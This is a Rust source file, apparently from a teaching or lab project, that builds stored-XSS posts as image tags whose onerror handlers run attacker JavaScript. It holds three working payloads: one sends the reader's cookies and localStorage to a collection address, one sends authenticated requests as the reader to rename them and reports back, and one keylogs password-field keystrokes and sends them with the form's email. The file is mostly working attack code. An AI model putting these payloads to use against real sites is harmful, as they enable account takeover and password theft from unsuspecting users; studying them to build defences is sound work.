//! What a thief posts: images that fail to load, and say what to do then. A `<script>` that is put into a page later
//! would not run.

use serde::Deserialize;

/// What a post does in its reader's page.
#[derive(Clone, Copy, Debug, Deserialize)]
#[serde(rename_all = "snake_case")]
pub(super) enum Payload {
    /// Sends home whatever a script can read.
    Steal,
    /// Acts as whoever reads it: changes their name, through either door, and tells.
    Ride,
    /// Listens to the keys that its reader presses in a password field, and sends them home with the form.
    Listen,
}

impl Payload {
    /// The post, which sends to the address `collect`.
    pub(super) fn html(self, collect: &str) -> String {
        let script = match self {
            Self::Steal => format!(
                "fetch('{collect}',{{method:'POST',mode:'no-cors',\
                 body:JSON.stringify({{localStorage,cookie:document.cookie}})}})"
            ),
            Self::Ride => RIDE.replace("COLLECT", collect),
            Self::Listen => LISTEN.replace("COLLECT", collect),
        };
        format!("<img src=\"/no-such-image\" alt=\"\" onerror=\"{script}\">")
    }
}

// #region ride
/// Sends two requests as the reader: one that the browser adds the cookie to, and one to which the script adds what it
/// found. It learns the answers, for it runs on their origin.
const RIDE: &str = "(async()=>{\
    const t=localStorage.access_token,\
    put=(p,h)=>fetch(p,{method:'PUT',headers:{'content-type':'application/json',...h},\
    body:JSON.stringify({name:'Mallory was here'})}).then(r=>r.status),\
    session=await put('/api/session/name',{}),\
    jwt=t?await put('/api/jwt/name',{authorization:'Bearer '+t}):0;\
    fetch('COLLECT',{method:'POST',mode:'no-cors',body:JSON.stringify({session,jwt,cookie:document.cookie,localStorage:{}})})\
    })()";
// #endregion ride

// #region listen
/// Says first that it runs. Then it hears every key before the page's own form does, and sends what it heard along with the
/// form. In an inline handler a bare `addEventListener` would be the image's own.
const LISTEN: &str = "(()=>{\
    let keys='';\
    const home=o=>fetch('COLLECT',{method:'POST',mode:'no-cors',keepalive:true,body:JSON.stringify(o)});\
    window.addEventListener('keydown',e=>{if(e.target.type=='password'&&e.key.length==1)keys+=e.key},true);\
    window.addEventListener('submit',e=>home({keys,email:e.target.elements.email?.value}),true);\
    home({listening:true})\
    })()";
// #endregion listen
